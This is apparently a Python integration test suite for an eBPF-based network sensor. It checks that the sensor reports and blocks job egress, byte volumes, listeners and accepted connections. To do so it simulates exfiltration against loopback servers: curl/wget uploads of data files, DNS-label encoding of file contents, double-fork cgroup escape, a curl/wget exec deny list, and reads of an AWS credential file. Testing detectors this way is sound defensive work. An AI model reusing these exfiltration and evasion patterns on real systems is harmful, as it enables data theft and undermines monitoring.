"""Network sensor, end to end: real BPF hooks at the cgroup v2 root, real
sockets to servers this test starts on 127.0.0.1 and [::1] (ports the kernel
picks). Scenarios A1, A2, A10, A11, A12 of scenarios.md, connections a job
accepts, and that an unrelated process's connections are not reported.
(DNS: test_dns.py.)"""
import http.server
import json
import os
import socket
import subprocess
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from fixture import DataTree  # noqa: E402
from harness import Cgroup, Daemon  # noqa: E402

PY = "/usr/bin/python3"
MAX_BYTES = 100_000


class SinkServer:
    """A TCP server that reads each connection to its end and counts bytes."""

    def __init__(self, family, host):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind((host, 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.host = host
        self.port = self.sock.getsockname()[1]
        self.received = {}  # peer port -> bytes
        self.lock = threading.Lock()
        self.stop_flag = False
        self.thread = threading.Thread(target=self.loop, daemon=True)
        self.thread.start()

    def loop(self):
        while not self.stop_flag:
            try:
                c, peer = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            threading.Thread(target=self.drain, args=(c, peer[1]), daemon=True).start()

    def drain(self, c, peer_port):
        n = 0
        c.settimeout(30)
        try:
            while True:
                b = c.recv(1 << 16)
                if not b:
                    break
                n += len(b)
        except OSError:
            pass
        c.close()
        with self.lock:
            self.received[peer_port] = n

    def close(self):
        self.stop_flag = True
        self.sock.close()
        self.thread.join(timeout=5)


class UdpSink:
    """A UDP socket that counts the bytes of the datagrams it gets."""

    def __init__(self, family, host):
        self.sock = socket.socket(family, socket.SOCK_DGRAM)
        self.sock.bind((host, 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = 0
        self.stop_flag = False
        self.thread = threading.Thread(target=self.loop, daemon=True)
        self.thread.start()

    def loop(self):
        while not self.stop_flag:
            try:
                self.received += len(self.sock.recv(65536))
            except socket.timeout:
                continue
            except OSError:
                return

    def close(self):
        self.stop_flag = True
        self.thread.join(timeout=5)
        self.sock.close()


class PostServer:
    """An HTTP server that takes POSTs and remembers the bodies' sizes."""

    def __init__(self):
        bodies = self.bodies = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                n = int(self.headers.get("Content-Length", 0))
                body = self.rfile.read(n)
                bodies.append((self.headers.get("User-Agent", ""), len(body)))
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def net_events(events, job=None, op=None, dport=None, pid=None):
    out = []
    for e in events:
        if e.get("kind") != "network":
            continue
        n = e["network"]
        if job is not None and e.get("job", {}).get("id") != job:
            continue
        if op is not None and n.get("op") != op:
            continue
        if dport is not None and n.get("dport") != dport:
            continue
        if pid is not None and e.get("process", {}).get("pid") != pid:
            continue
        out.append(e)
    return out


def run_job(d, policy, script, *args):
    """Runs a python snippet as a job; returns (job id, its stdout)."""
    r = d.cli("run", "--policy", policy, "--", PY, "-c", script, *args, timeout=120)
    if r.returncode != 0:
        raise AssertionError(f"job failed: {r.returncode}\n{r.stdout}\n{r.stderr}")
    job = r.stderr.split("job ")[1].split()[0]
    return job, r.stdout


SEND = """
import socket, sys, json
host, port, path, times = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
connections = int(sys.argv[5]) if len(sys.argv) > 5 else 1
data = open(path, 'rb').read()
for _ in range(connections):
    c = socket.create_connection((host, port))
    sent = 0
    for _ in range(times):
        c.sendall(data)
        sent += len(data)
    src = c.getsockname()[1]
    c.close()
    print(json.dumps({"sent": sent, "sport": src}))
"""


class NetworkSensorTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = DataTree()
        cls.allowed4 = SinkServer(socket.AF_INET, "127.0.0.1")
        cls.denied4 = SinkServer(socket.AF_INET, "127.0.0.1")
        cls.allowed6 = SinkServer(socket.AF_INET6, "::1")
        cls.denied6 = SinkServer(socket.AF_INET6, "::1")
        cls.http = PostServer()
        cls.udp4 = UdpSink(socket.AF_INET, "127.0.0.1")
        cls.udp6 = UdpSink(socket.AF_INET6, "::1")
        egress = (f'network:\n  egress: ["127.0.0.1/32:{cls.allowed4.port}", "[::1]/128:{cls.allowed6.port}", '
                  f'"127.0.0.1:{cls.udp4.port}", "[::1]:{cls.udp6.port}"]\n'
                  f'  max_bytes_per_destination: "{MAX_BYTES}"\n'
                  'process:\n  deny_exec: ["**/curl", "**/wget"]\n')
        # wget reads /etc/wgetrc, which is not in the built-in base list: without this
        # line A1 also raises unapproved-data-read for it.
        mon = cls.t.policy(name="ft", mode="monitor", extra=egress).replace("data:\n", 'data:\n  base: ["/etc/wgetrc"]\n')
        enf = cls.t.policy(name="enf", mode="enforce", extra=egress).replace(
            "fts-kt-launcher", "fts-kt-launcher-enf")
        cls.d = Daemon({"ft.yaml": mon, "enf.yaml": enf}, extra_config="sensor: { flow_report_seconds: 1 }\n").start()

    @classmethod
    def tearDownClass(cls):
        cls.d.cleanup()
        for s in (cls.allowed4, cls.denied4, cls.allowed6, cls.denied6, cls.http, cls.udp4, cls.udp6):
            s.close()
        cls.t.cleanup()

    def wait_net(self, what, **where):
        return self.d.wait_for(lambda evs: net_events(evs, **where) or None, what=what)

    def test_a2_shard_over_a_plain_socket_to_a_not_allowed_server(self):
        shard = self.t.shards[0]
        times = 400
        job, out = run_job(self.d, "ft", SEND, "127.0.0.1", str(self.denied4.port), shard, str(times))
        res = json.loads(out)
        self.assertEqual(res["sent"], os.path.getsize(shard) * times)
        self.wait_net("connect", job=job, op="connect", dport=self.denied4.port)
        self.wait_net("flow", job=job, op="flow", dport=self.denied4.port)
        evs = self.d.sync()  # the job has ended (its sockets closed): every record of it is in
        conn = net_events(evs, job=job, op="connect", dport=self.denied4.port)
        self.assertEqual(len(conn), 1)
        n = conn[0]["network"]
        self.assertEqual(n["protocol"], "tcp")
        self.assertEqual(n["daddr"], "127.0.0.1")
        self.assertEqual(n["verdict"], "not_allowed")
        self.assertEqual(n["action"], "allowed")  # monitor mode never blocks
        self.assertEqual(conn[0]["job"]["policy"], "ft")
        flow = net_events(evs, job=job, op="flow", dport=self.denied4.port)
        self.assertEqual(len(flow), 1)
        f = flow[0]["network"]
        self.assertEqual(f["cookie"], n["cookie"])
        self.assertEqual(f["saddr"], "127.0.0.1")
        self.assertEqual(f["sport"], res["sport"])
        self.assertLessEqual(abs(int(f["bytes"]) - res["sent"]), res["sent"] * 0.01, f)
        self.assertEqual(flow[0]["process"]["pid"], conn[0]["process"]["pid"])
        # A2's alerts: the egress itself, and the chain from the shard read to it
        al = self.d.wait_for(lambda evs: (lambda a: a if {"egress-not-allowed", "exfil-chain", "egress-volume"} <= {x["rule"] for x in a}
                                          else None)([x for x in evs if "rule" in x and x.get("job", {}).get("id") == job]),
                             what="A2 alerts")
        al = [x for x in self.d.sync() if "rule" in x and x.get("job", {}).get("id") == job]
        rules = [x["rule"] for x in al]
        # this test sends more than max_bytes_per_destination, so egress-volume is due too
        self.assertGreater(res["sent"], MAX_BYTES)
        self.assertEqual(sorted(rules), ["egress-not-allowed", "egress-volume", "exfil-chain"])
        chain = [x for x in al if x["rule"] == "exfil-chain"][0]
        self.assertIn(shard, chain["message"])
        self.assertEqual((chain["network"]["daddr"], chain["network"]["dport"]), ("127.0.0.1", self.denied4.port))
        self.assertEqual(chain["mitre"]["attack"], ["T1048"])

    def test_a10_bytes_over_max_per_destination_in_the_totals(self):
        shard = self.t.shards[1]
        size = os.path.getsize(shard)
        times = (MAX_BYTES * 6 // 10) // size + 1  # each flow is over 60% of the limit
        job, out1 = run_job(self.d, "ft", SEND, "127.0.0.1", str(self.allowed4.port), shard, str(times), "2")
        sent = [json.loads(l)["sent"] for l in out1.splitlines()]
        self.assertEqual(len(sent), 2)
        self.d.wait_for(lambda evs: len(net_events(evs, job=job, op="flow", dport=self.allowed4.port)) >= 2,
                        what="two flows")
        flows = net_events(self.d.sync(), job=job, op="flow", dport=self.allowed4.port)
        self.assertEqual(len(flows), 2)
        flows.sort(key=lambda e: int(e["network"]["total_bytes"]))
        first, second = flows[0]["network"], flows[1]["network"]
        self.assertEqual(first["verdict"], "allowed")
        self.assertEqual(int(first["max_bytes_per_destination"]), MAX_BYTES)
        self.assertFalse(first.get("over_max_bytes", False))
        self.assertEqual(int(second["total_bytes"]), int(first["bytes"]) + int(second["bytes"]))
        self.assertEqual(int(second["total_bytes"]), sum(sent))
        self.assertTrue(second["over_max_bytes"])
        def volume(evs):
            return [x for x in evs if x.get("rule") == "egress-volume" and x.get("job", {}).get("id") == job]
        self.d.wait_for(lambda evs: volume(evs) or None, what="egress-volume")
        vol = volume(self.d.sync())  # the job has ended: every record of it is in
        self.assertEqual(len(vol), 1)
        self.assertEqual(int(vol[0]["network"]["bytes"]), sum(sent))

    def test_a11_enforce_blocks_what_egress_does_not_allow(self):
        code = """
import socket, json, sys, errno
a4, d4, a6, d6, udp = (int(x) for x in sys.argv[1:6])
res = {}
def attempt(name, fn):
    try:
        fn()
        res[name] = 0
    except OSError as e:
        res[name] = e.errno
def tcp(host, port, payload=b''):
    c = socket.create_connection((host, port), timeout=5)
    c.sendall(payload)
    c.close()
attempt('tcp4_denied', lambda: tcp('127.0.0.1', d4))
attempt('tcp6_denied', lambda: tcp('::1', d6))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt('udp_denied', lambda: u.sendto(b'x', ('127.0.0.1', udp)))
attempt('tcp4_allowed', lambda: tcp('127.0.0.1', a4, b'a' * 1000))
attempt('tcp6_allowed', lambda: tcp('::1', a6, b'b' * 1000))
def mapped(port, payload=b''):
    c = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    c.connect(('::ffff:127.0.0.1', port))
    c.sendall(payload)
    c.close()
attempt('mapped_denied', lambda: mapped(d4))
attempt('mapped_allowed', lambda: mapped(a4, b'c' * 500))
nb = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
nb.setblocking(False)
res['nonblocking_denied'] = nb.connect_ex(('127.0.0.1', d4 + 0))
print(json.dumps(res))
"""
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", 0))
        udp_port = u.getsockname()[1]
        try:
            job, out = run_job(self.d, "enf", code, str(self.allowed4.port), str(self.denied4.port),
                               str(self.allowed6.port), str(self.denied6.port), str(udp_port))
            res = json.loads(out)
            self.assertEqual(res, {"tcp4_denied": 1, "tcp6_denied": 1, "udp_denied": 1,  # EPERM
                                   "tcp4_allowed": 0, "tcp6_allowed": 0,
                                   "mapped_denied": 1, "mapped_allowed": 0,  # ::ffff:127.0.0.1 is 127.0.0.1
                                   "nonblocking_denied": 1})
            u.settimeout(0.3)
            with self.assertRaises(socket.timeout):
                u.recvfrom(100)  # nothing got through
        finally:
            u.close()
        for port, daddr, op, proto in ((self.denied4.port, "127.0.0.1", "connect", "tcp"),
                                       (self.denied6.port, "::1", "connect", "tcp"),
                                       (udp_port, "127.0.0.1", "sendmsg", "udp")):
            ev = self.wait_net(f"blocked {op} to {daddr}:{port}", job=job, op=op, dport=port)
            n = ev[0]["network"]
            self.assertEqual((n["daddr"], n["protocol"], n["verdict"], n["action"]),
                             (daddr, proto, "not_allowed", "blocked"))
            self.assertEqual(ev[0]["job"]["policy"], "enf")
        # denied4: the IPv4 connect, the v4-mapped one on an IPv6 socket and the non-blocking one
        self.d.wait_for(lambda evs: len(net_events(evs, job=job, op="connect", dport=self.denied4.port)) >= 3,
                        what="three blocked connects")
        blocked4 = net_events(self.d.sync(), job=job, op="connect", dport=self.denied4.port)
        self.assertEqual(len(blocked4), 3)
        self.assertEqual({e["network"]["action"] for e in blocked4}, {"blocked"})
        self.assertEqual({e["network"]["daddr"] for e in blocked4}, {"127.0.0.1"})
        blocked = self.d.wait_for(lambda evs: (lambda a: a if len(a) >= 3 else None)(
            [x for x in evs if x.get("rule") == "egress-not-allowed" and x.get("job", {}).get("id") == job]),
            what="egress-not-allowed alerts")
        self.assertEqual({x["action"] for x in blocked}, {"blocked"})
        for port, daddr in ((self.allowed4.port, "127.0.0.1"), (self.allowed6.port, "::1")):
            ev = self.wait_net(f"allowed connect to {daddr}", job=job, op="connect", dport=port)
            n = ev[0]["network"]
            self.assertEqual((n["daddr"], n["verdict"], n["action"]), (daddr, "allowed", "allowed"))
        self.d.wait_for(lambda evs: len(net_events(evs, job=job, op="flow")) >= 3, what="three flows")
        flows = net_events(self.d.sync(), job=job, op="flow")
        got = sorted((e["network"]["daddr"], e["network"]["dport"], int(e["network"]["bytes"])) for e in flows)
        self.assertEqual(got, sorted([("127.0.0.1", self.allowed4.port, 1000), ("::1", self.allowed6.port, 1000),
                                      ("127.0.0.1", self.allowed4.port, 500)]))

    def test_a11_sendmsg_sendmmsg_and_a_nonblocking_connect_in_enforce_mode(self):
        code = r"""
import ctypes, errno, json, select, socket, struct, sys
u4, u6, denied, tcp_ok = (int(x) for x in sys.argv[1:5])
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(iovec)),
                ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t),
                ('flags', ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint)]
def sendmmsg(sock, port, payloads):
    addr = ctypes.create_string_buffer(struct.pack('=H', socket.AF_INET) + struct.pack('>H', port) +
                                      socket.inet_aton('127.0.0.1') + bytes(8), 16)
    bufs = [ctypes.create_string_buffer(p, len(p)) for p in payloads]
    iovs = (iovec * len(payloads))(*[iovec(ctypes.cast(b, ctypes.c_void_p), len(p)) for b, p in zip(bufs, payloads)])
    msgs = (mmsghdr * len(payloads))()
    for i in range(len(payloads)):
        msgs[i].hdr.name = ctypes.cast(addr, ctypes.c_void_p)
        msgs[i].hdr.namelen = 16
        msgs[i].hdr.iov = ctypes.pointer(iovs[i])
        msgs[i].hdr.iovlen = 1
    n = libc.sendmmsg(sock.fileno(), msgs, len(payloads), 0)
    return n if n >= 0 else -ctypes.get_errno()
res = {}
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
res['sendmmsg_allowed'] = sendmmsg(a, u4, [b'm' * 100, b'm' * 200, b'm' * 300])
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
res['sendmmsg_denied'] = sendmmsg(b, denied, [b'x' * 10, b'x'])
c = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
res['sendmsg6_allowed'] = c.sendmsg([b's' * 400, b's' * 100], [], 0, ('::1', u6))
try:
    c.sendmsg([b'x'], [], 0, ('::1', denied))
    res['sendmsg6_denied'] = 0
except OSError as e:
    res['sendmsg6_denied'] = e.errno
n = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
n.setblocking(False)
res['nonblocking'] = n.connect_ex(('127.0.0.1', tcp_ok)) in (0, errno.EINPROGRESS)
select.select([], [n], [], 5)
res['nonblocking_error'] = n.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
n.setblocking(True)
n.sendall(b'n' * 6000)
n.close()
for s in (a, b, c):
    s.close()
print(json.dumps(res))
"""
        before4, before6 = self.udp4.received, self.udp6.received
        job, out = run_job(self.d, "enf", code, str(self.udp4.port), str(self.udp6.port), str(self.denied4.port),
                           str(self.allowed4.port))
        self.assertEqual(json.loads(out), {"sendmmsg_allowed": 3, "sendmmsg_denied": -1,  # -EPERM
                                           "sendmsg6_allowed": 500, "sendmsg6_denied": 1,
                                           "nonblocking": True, "nonblocking_error": 0})
        deadline = time.time() + 5
        while (self.udp4.received - before4, self.udp6.received - before6) != (600, 500) and time.time() < deadline:
            time.sleep(0.05)
        self.assertEqual((self.udp4.received - before4, self.udp6.received - before6), (600, 500))
        self.d.wait_for(lambda evs: len(net_events(evs, job=job, op="sendmsg")) >= 4, what="four sendmsg events")
        sends = net_events(self.d.sync(), job=job, op="sendmsg")
        got = sorted((e["network"]["daddr"], e["network"]["dport"], e["network"]["protocol"], e["network"]["action"])
                     for e in sends)
        self.assertEqual(got, sorted([("127.0.0.1", self.udp4.port, "udp", "allowed"),
                                      ("127.0.0.1", self.denied4.port, "udp", "blocked"),
                                      ("::1", self.udp6.port, "udp", "allowed"),
                                      ("::1", self.denied4.port, "udp", "blocked")]))
        self.d.wait_for(lambda evs: len(net_events(evs, job=job, op="flow")) >= 3, what="three flows")
        flows = net_events(self.d.sync(), job=job, op="flow")
        got = sorted((e["network"]["daddr"], e["network"]["dport"], e["network"]["protocol"], int(e["network"]["bytes"]))
                     for e in flows)
        self.assertEqual(got, sorted([("127.0.0.1", self.udp4.port, "udp", 600), ("::1", self.udp6.port, "udp", 500),
                                      ("127.0.0.1", self.allowed4.port, "tcp", 6000)]))

    def test_a12_double_forked_setsid_child_in_another_cgroup_is_still_the_job(self):
        cg = Cgroup("fts-kt-net")
        try:
            code = """
import os, sys, time, socket
procs, port, path, done = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        with open(procs, 'w') as f:
            f.write(str(os.getpid()))
        data = open(path, 'rb').read()
        c = socket.create_connection(('127.0.0.1', port))
        c.sendall(data)
        c.close()
        with open(done, 'w') as f:
            f.write(str(os.getpid()))
        os._exit(0)
    os._exit(0)
os.wait()
for _ in range(200):
    if os.path.exists(done):
        break
    time.sleep(0.05)
"""
            done = os.path.join(self.d.tmp, "a12.done")
            job, _ = run_job(self.d, "ft", code, cg.procs_file(), str(self.denied4.port), self.t.shards[2], done)
            pid = harness.read_pid(done)
            flow = self.wait_net("flow of the moved grandchild", op="flow", dport=self.denied4.port, pid=pid)
            self.assertEqual(flow[0]["job"]["id"], job)
            self.assertEqual(int(flow[0]["network"]["bytes"]), os.path.getsize(self.t.shards[2]))
            conn = net_events(self.d.sync(), op="connect", pid=pid)
            self.assertEqual(len(conn), 1)
            self.assertEqual(conn[0]["job"]["id"], job)
            # A2's alerts, on the same job, naming the moved grandchild
            want = {"egress-not-allowed", "exfil-chain"}
            self.d.wait_for(lambda evs: {x["rule"] for x in evs if "rule" in x and x["process"]["pid"] == pid} >= want,
                            what="A12 alerts")
            al = [x for x in self.d.sync() if "rule" in x and x.get("job", {}).get("id") == job]
            self.assertEqual(sorted((x["rule"], x["process"]["pid"]) for x in al), sorted((r, pid) for r in want))
            chain = [x for x in al if x["rule"] == "exfil-chain"][0]
            self.assertIn(self.t.shards[2], chain["message"])
            self.assertEqual((chain["network"]["daddr"], chain["network"]["dport"]), ("127.0.0.1", self.denied4.port))
        finally:
            cg.remove()

    def test_a3_dns_query_names(self):
        # Queries whose labels carry base32 of a shard, to port 53 on loopback (UDP:
        # nothing needs to answer). Unconnected sendto over IPv4, connected over IPv6.
        code = """
import base64, socket, struct, sys
data = open(sys.argv[1], 'rb').read()[:60]
labels = base64.b32encode(data).decode().rstrip('=').lower()
labels = [labels[i:i + 48] for i in range(0, len(labels), 48)][:2]
def query(qid, name):
    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'
    return struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
n1 = '.'.join(labels) + '.exfil.test'
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(query(0x1111, n1), ('127.0.0.1', 53))
v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
v.connect(('::1', 53))
v.send(query(0x2222, 'hub.internal'))
print(n1)
"""
        job, out = run_job(self.d, "ft", code, self.t.shards[0])
        n1 = out.strip()
        q4 = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="dns_query")
                                          if e["network"]["dns"] == n1] or None, what="the IPv4 query")
        self.assertEqual((q4[0]["network"]["daddr"], q4[0]["network"]["dport"]), ("127.0.0.1", 53))
        self.assertFalse(q4[0]["network"].get("dns_truncated", False))
        q6 = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="dns_query")
                                          if e["network"]["dns"] == "hub.internal"] or None, what="the IPv6 query")
        self.assertEqual(q6[0]["network"]["daddr"], "::1")
        self.assertEqual(len(net_events(self.d.sync(), job=job, op="dns_query")), 2)  # the job has ended

    def test_a10_long_flow_is_reported_while_open(self):
        code = """
import socket, sys, time
c = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
c.sendall(b'x' * 70000)
time.sleep(2.5)  # flow_report_seconds is 1 here
c.sendall(b'y' * 50000)
time.sleep(2.5)
c.close()
"""
        job, _ = run_job(self.d, "ft", code, str(self.allowed4.port))
        flow = self.wait_net("the closing flow", job=job, op="flow")
        updates = net_events(self.d.events(), job=job, op="flow_update")
        self.assertGreaterEqual(len(updates), 2, [e["network"] for e in updates])
        seen = [int(e["network"]["bytes"]) for e in updates]
        self.assertEqual(seen, sorted(seen))
        self.assertIn(70000, seen)
        self.assertEqual(seen[-1], 120000)
        self.assertEqual(len(set(seen)), len(seen), "no report when nothing was sent since")
        for e in updates:
            self.assertEqual(e["network"]["cookie"], flow[0]["network"]["cookie"])
        over = [e for e in updates if e["network"].get("over_max_bytes")]
        self.assertEqual(int(over[0]["network"]["total_bytes"]), 120000)  # over 100000 before the close
        f = flow[0]["network"]
        self.assertEqual((int(f["bytes"]), int(f["total_bytes"])), (120000, 120000))  # counted once

    def test_job_listeners_are_reported(self):
        code = """
import socket, json
a = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
a.bind(('127.0.0.1', 0))
a.listen(4)
b = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
b.bind(('::1', 0))
b.listen(4)
print(json.dumps([a.getsockname()[1], b.getsockname()[1]]))
"""
        job, out = run_job(self.d, "ft", code)
        p4, p6 = json.loads(out)
        for addr, port in (("127.0.0.1", p4), ("::1", p6)):
            ev = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="listen")
                                              if e["network"].get("sport") == port] or None,
                                 what=f"listen on {addr}:{port}")
            n = ev[0]["network"]
            self.assertEqual((n["saddr"], n["protocol"]), (addr, "tcp"))
            self.assertNotIn("daddr", n)
            # the job has ended: after the barrier every record of it is in
            binds = [e for e in net_events(self.d.sync(), job=job, op="bind") if e["network"]["saddr"] == addr]
            self.assertEqual(len(binds), 1, binds)
            self.assertEqual(binds[0]["network"].get("sport", 0), 0)  # asked for any port (0: omitted)
            self.assertEqual(binds[0]["network"]["cookie"], n["cookie"])

    def test_a1_curl_and_wget_post_a_shard_to_a_not_allowed_server(self):
        shard = self.t.shards[1]
        url = f"http://127.0.0.1:{self.http.port}/upload"
        code = """
import subprocess, sys
shard, url = sys.argv[1], sys.argv[2]
subprocess.run(['curl', '-sS', '-o', '/dev/null', '--data-binary', '@' + shard, url], check=True, timeout=30)
subprocess.run(['wget', '-q', '-O', '/dev/null', '--post-file=' + shard, url], check=True, timeout=30)
"""
        job, _ = run_job(self.d, "ft", code, shard, url)
        size = os.path.getsize(shard)
        self.assertEqual(sorted(n for _, n in self.http.bodies[-2:]), [size, size])
        want = {("transfer-tool-exec", "curl"), ("transfer-tool-exec", "wget"), ("egress-not-allowed", "curl"),
                ("egress-not-allowed", "wget"), ("exfil-chain", "curl"), ("exfil-chain", "wget")}

        def got(evs):
            al = [x for x in evs if "rule" in x and x.get("job", {}).get("id") == job]
            return al if {(x["rule"], os.path.basename(x["process"]["exe"])) for x in al} >= want else None
        self.d.wait_for(got, what="A1 alerts")
        al = got(self.d.sync())  # anything else it would raise is out by now
        self.assertEqual(sorted((x["rule"], os.path.basename(x["process"]["exe"])) for x in al), sorted(want))
        for x in al:
            if x["rule"] != "transfer-tool-exec":
                self.assertEqual((x["network"]["daddr"], x["network"]["dport"]), ("127.0.0.1", self.http.port))
            if x["rule"] == "exfil-chain":
                self.assertIn(shard, x["message"])

    def test_connections_a_job_accepts_are_reported_with_what_it_sent_back(self):
        code = """
import socket, sys
out = sys.argv[1]
ls = []
for fam, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.bind((host, 0))
    s.listen(4)
    ls.append(s)
with open(out + '.tmp', 'w') as f:
    f.write(' '.join(str(s.getsockname()[1]) for s in ls))
import os
os.rename(out + '.tmp', out)
for s, n in zip(ls, (5000, 7000)):
    s.settimeout(20)
    c, _ = s.accept()
    c.sendall(b'r' * n)
    c.close()
"""
        ports_file = os.path.join(self.d.tmp, f"accept-{time.time_ns()}")
        p = subprocess.Popen([harness.CLI, "--socket", self.d.socket, "run", "--policy", "ft", "--", PY, "-c", code,
                              ports_file], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.time() + 20
            while not os.path.exists(ports_file):
                self.assertLess(time.time(), deadline, "the job did not listen")
                time.sleep(0.05)
            with open(ports_file) as f:
                p4, p6 = (int(x) for x in f.read().split())
            peers = {}
            for host, port, n in (("127.0.0.1", p4, 5000), ("::1", p6, 7000)):
                c = socket.create_connection((host, port), timeout=20)
                peers[host] = c.getsockname()[1]
                got = b""
                while len(got) < n:
                    b = c.recv(65536)
                    if not b:
                        break
                    got += b
                c.close()
                self.assertEqual(len(got), n)
            _, err = p.communicate(timeout=30)
            self.assertEqual(p.returncode, 0, err)
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()
        job = err.split("job ")[1].split()[0]
        for host, port, n in (("127.0.0.1", p4, 5000), ("::1", p6, 7000)):
            def accepts(evs):
                return [e for e in net_events(evs, job=job, op="accept") if e["network"]["sport"] == port]
            self.d.wait_for(lambda evs: accepts(evs) or None, what=f"accept on {port}")
            acc = accepts(self.d.sync())  # the job has ended: every record of it is in
            self.assertEqual(len(acc), 1)
            a = acc[0]["network"]
            self.assertEqual((a["saddr"], a["daddr"], a["dport"], a["protocol"], a["direction"]),
                             (host, host, peers[host], "tcp", "inbound"))
            self.assertNotIn("verdict", a)  # the egress list judges where the job goes, not who comes
            flow = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="flow")
                                                if e["network"]["cookie"] == a["cookie"]] or None,
                                   what=f"the accepted flow on {port}")
            f = flow[0]["network"]
            self.assertEqual((int(f["bytes"]), f["direction"], f["daddr"], f["dport"]), (n, "inbound", host, peers[host]))
        # the accepts and flows above are the control: the daemon sees this job
        self.assertEqual([x["rule"] for x in self.d.sync() if "rule" in x and x.get("job", {}).get("id") == job], [])

    def test_unrelated_process_connections_are_not_reported(self):
        # Each unrelated process, after its sends, reads a credential file: anyone's
        # read of `sensitive` is reported, the control that the daemon sees them.
        control = "\nimport os\nopen(os.environ['FTS_KT_CONTROL']).read()\n"
        env = dict(os.environ, FTS_KT_CONTROL=self.t.aws)
        p = subprocess.Popen([PY, "-c", SEND + control, "127.0.0.1", str(self.denied4.port), self.t.shards[0], "3"],
                             stdout=subprocess.PIPE, text=True, env=env)
        out, _ = p.communicate(timeout=30)
        self.assertEqual(p.returncode, 0)
        u = subprocess.Popen([PY, "-c", "import socket,sys\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                              ".sendto(b'x', ('127.0.0.1', int(sys.argv[1])))" + control, str(self.denied4.port)],
                             env=env)
        self.assertEqual(u.wait(timeout=30), 0)
        for pid in (p.pid, u.pid):
            self.d.wait_for(lambda evs: [e for e in evs if e.get("kind") == "file" and e["process"]["pid"] == pid
                                         and e["file"]["path"] == self.t.aws], what=f"the control read by {pid}")
        evs = self.d.sync()
        sport = json.loads(out)["sport"]
        for e in net_events(evs):
            self.assertIn("job", e, e)
            self.assertNotEqual(e["network"].get("sport"), sport, e)
            self.assertNotIn(e["process"]["pid"], (p.pid, u.pid), e)
        for pid in (p.pid, u.pid):
            self.assertEqual([(e.get("kind"), e.get("file", {}).get("path")) for e in evs
                              if e.get("process", {}).get("pid") == pid], [("file", self.t.aws)])


if __name__ == "__main__":
    harness.main()
